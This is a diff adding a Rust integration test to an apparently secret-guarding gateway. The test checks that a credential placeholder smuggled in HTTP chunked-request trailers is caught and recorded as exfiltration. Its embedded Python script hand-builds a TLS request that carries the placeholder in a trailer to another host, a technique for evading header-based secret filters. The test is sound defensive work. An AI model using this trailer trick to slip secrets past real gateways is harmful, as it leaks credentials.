@@ -352,6 +352,56 @@ fn a_placeholder_late_in_a_streamed_body_stops_the_request() {
 }
 
 #[test]
+fn a_placeholder_in_request_trailers_stops_the_request() {
+    let t = start("sec-trailer", &[("API_TOKEN", BEARER, SECRET)], false);
+    let ph = t.cli.placeholder("agent", "API_TOKEN");
+    // curl sends no request trailers: a chunked HTTP/1.1 request by hand,
+    // over TLS trusting the gateway's CA, whose trailer carries the
+    // placeholder. What comes back is printed (or the error, if the
+    // gateway cut the connection).
+    let send = r"
+import socket, ssl, sys
+host, addr, port, cafile, placeholder = sys.argv[1:6]
+context = ssl.create_default_context(cafile=cafile)
+with socket.create_connection((addr, int(port)), timeout=10) as raw:
+    with context.wrap_socket(raw, server_hostname=host) as tls:
+        tls.sendall((
+            f'POST /signed HTTP/1.1\r\nHost: {host}\r\n'
+            'Transfer-Encoding: chunked\r\nTrailer: X-Signature\r\n\r\n'
+            '5\r\nhello\r\n0\r\n'
+            f'X-Signature: {placeholder}\r\n\r\n').encode())
+        try:
+            print(tls.recv(4096).decode(errors='replace').split('\r\n')[0])
+        except OSError as error:
+            print('no answer:', error)
+";
+    let upstream = t.s.upstream_addr();
+    let ca =
+        t.s.agents
+            .ca_file
+            .as_ref()
+            .expect("the agents trust the gateway's CA");
+    let run = gateway_tests::client::TimedCommand::new("python3")
+        .args(["-c", send, OTHER_HOST, &upstream.ip().to_string()])
+        .arg(upstream.port().to_string())
+        .arg(ca)
+        .arg(&ph)
+        .in_cgroup(t.s.agent.path())
+        .run()
+        .expect_success("the chunked request");
+    let line = t.wait_for_exfiltration(OTHER_HOST, "trailer x-signature");
+    assert_eq!(
+        line.field("secret").as_deref(),
+        Some("API_TOKEN"),
+        "{line:?}"
+    );
+    assert!(
+        !run.stdout.contains(" 200"),
+        "the upstream must not answer a stopped body: {run:#?}"
+    );
+}
+
+#[test]
 fn a_placeholder_in_a_dns_name_is_refused_and_recorded() {
     let t = start("sec-dns", &[("API_TOKEN", BEARER, SECRET)], false);
     let ph = t.cli.placeholder("agent", "API_TOKEN");
